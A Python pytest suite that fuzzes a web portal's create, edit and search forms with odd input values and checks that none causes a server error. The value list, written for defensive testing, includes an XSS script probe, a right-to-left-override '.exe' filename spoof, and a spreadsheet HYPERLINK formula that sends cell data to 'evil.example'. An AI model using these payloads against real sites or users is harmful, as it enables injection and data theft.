"""Every create form, given odd values in all of its fields at once, answers with the form
and its errors — never a server error. The fields are read off the page itself, so a field
added later is covered too."""

import re

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from tests.factories import make_org, make_user
from tests.support.web import sign_in

ODD_VALUES = [
    "",
    "   ",
    "-1",
    "1e309",
    "NaN",
    "-inf",
    "0x1F",
    "²",
    "１２３",
    "2026-02-30",
    "99999-12-31",
    "0001-01-01",
    "9" * 400,
    "<script>alert(1)</script>",
    "长" * 5000,
    "a,b;c\t\"d'",
    "\u200b\u200d\u2060\ufeff\u00ad",
    "报告\u202egpj.exe",
    "\x07\x1b[31m\x7f\x85",
    "第一行\r\n第二行",
    '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
]
_FIELD = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"[^>]*>', re.S)
_TYPE = re.compile(r'\btype="([^"]+)"')

# (form page, role of the signed-in user or None, org kind for a member)
FORMS = [
    ("/solutions/new", "vendor", "integrator"),
    ("/demands/new", "enterprise", "enterprise"),
    ("/networks/new", "official", None),
    ("/cases/new", "official", None),
    ("/indicators", "official", None),
    ("/register", None, None),
    ("/password/forgot", None, None),
]


def fields_of(html: str) -> dict[str, list[str]]:
    """Each form on the page: {action: [field names]}; hidden fields are kept as they are."""
    forms: dict[str, list[str]] = {}
    for match in re.finditer(r'<form\b[^>]*method="post"[^>]*>(.*?)</form>', html, re.S | re.I):
        action = re.search(r'action="([^"]*)"', match.group(0))
        names = []
        for field in _FIELD.finditer(match.group(1)):
            kind = _TYPE.search(field.group(0))
            if kind and kind.group(1) in ("hidden", "submit", "file"):
                continue
            names.append(field.group(1))
        if action and names:
            forms[action.group(1)] = sorted(set(names))
    return forms


def signed_in(client: TestClient, session: Session, role: str | None, kind: str | None) -> str:
    if role is None:
        response = client.get("/login")
        return re.search(r'name="csrf_token" value="([^"]+)"', response.text).group(1)  # type: ignore[union-attr]
    org = make_org(session, kind=kind) if kind else None
    user = make_user(session, org=org, role=role)
    session.commit()
    return sign_in(client, user.email)


@pytest.mark.parametrize(("page", "role", "kind"), FORMS)
def test_odd_values_never_make_a_server_error(
    client: TestClient, session: Session, page: str, role: str | None, kind: str | None
) -> None:
    csrf = signed_in(client, session, role, kind)
    html = client.get(page).text
    forms = fields_of(html)
    assert forms, f"no form found on {page}"
    for action, names in forms.items():
        for value in ODD_VALUES:
            data = {name: value for name in names}
            data["csrf_token"] = csrf
            response = client.post(action, data=data, follow_redirects=False)
            assert response.status_code < 500, (action, value, response.text[:300])


# (page with search or filter forms, role or None)
SEARCH_PAGES = [
    ("/solutions", None),
    ("/demands", None),
    ("/cases", None),
    ("/networks", "official"),
    ("/moderation", "official"),
    ("/admin/audit", "admin"),
    ("/admin/users", "admin"),
    ("/opportunities", "vendor"),
]


def get_fields_of(html: str) -> list[str]:
    names: set[str] = set()
    for match in re.finditer(r"<form\b(?:(?!method=\"post\")[^>])*>(.*?)</form>", html, re.S):
        names.update(f.group(1) for f in _FIELD.finditer(match.group(1)))
    return sorted(names | {"page", "sort", "q"})


@pytest.mark.parametrize(("page", "role"), SEARCH_PAGES)
def test_odd_query_values_never_make_a_server_error(
    client: TestClient, session: Session, page: str, role: str | None
) -> None:
    kind = "integrator" if role == "vendor" else None
    signed_in(client, session, role, kind)
    names = get_fields_of(client.get(page).text)
    for value in ODD_VALUES:
        # Browsers and proxies cap URLs near 8 KB; so does what we send.
        response = client.get(page, params={name: value[:300] for name in names})
        assert response.status_code < 500, (page, value, response.text[:300])


@pytest.mark.parametrize("kind", ["solution", "demand", "network", "case", "organization"])
def test_odd_values_in_edit_forms_never_make_a_server_error(
    client: TestClient, session: Session, kind: str
) -> None:
    from tests.factories import make_case, make_demand, make_network, make_solution

    org = make_org(session, kind="integrator" if kind == "solution" else "enterprise")
    owner = make_user(session, org=org)
    official = make_user(session, role="official")
    pages = {
        "solution": lambda: f"/solutions/{make_solution(session, org).id}/edit",
        "demand": lambda: f"/demands/{make_demand(session, org).id}/edit",
        "network": lambda: f"/networks/{make_network(session).id}/edit",
        "case": lambda: f"/cases/{make_case(session).id}/edit",
        "organization": lambda: f"/organizations/{org.id}/edit",
    }
    page = pages[kind]()
    session.commit()
    csrf = sign_in(client, (official if kind in ("network", "case") else owner).email)
    forms = fields_of(client.get(page).text)
    assert forms, f"no form found on {page}"
    for action, names in forms.items():
        for value in ODD_VALUES:
            data = {name: value for name in names}
            data["csrf_token"] = csrf
            response = client.post(action, data=data, follow_redirects=False)
            assert response.status_code < 500, (action, value, response.text[:300])


def test_a_day_that_does_not_exist_is_not_called_a_wrong_format() -> None:
    import datetime

    from pydantic import TypeAdapter, ValidationError

    from portal.kit.translate import translate_error

    reasons = []
    for value in ("2026-13-45", "2026-02-30", "2026/13"):
        try:
            TypeAdapter(datetime.date).validate_python(value)
        except ValidationError as exc:
            reasons.append(translate_error(exc.errors()[0])[1])
    assert reasons[0].startswith("不存在这一天：2026-13-45")
    assert reasons[1].startswith("不存在这一天：2026-02-30")
    assert reasons[2] == "日期格式应为 YYYY-MM-DD"


def test_a_range_error_names_the_fields_as_people_read_them() -> None:
    from portal.listings.rules import solution_errors

    errors = solution_errors(regions=["hunan"], price_min=50, price_max=20)
    assert errors["price_max"] == "报价上限不能小于报价下限"
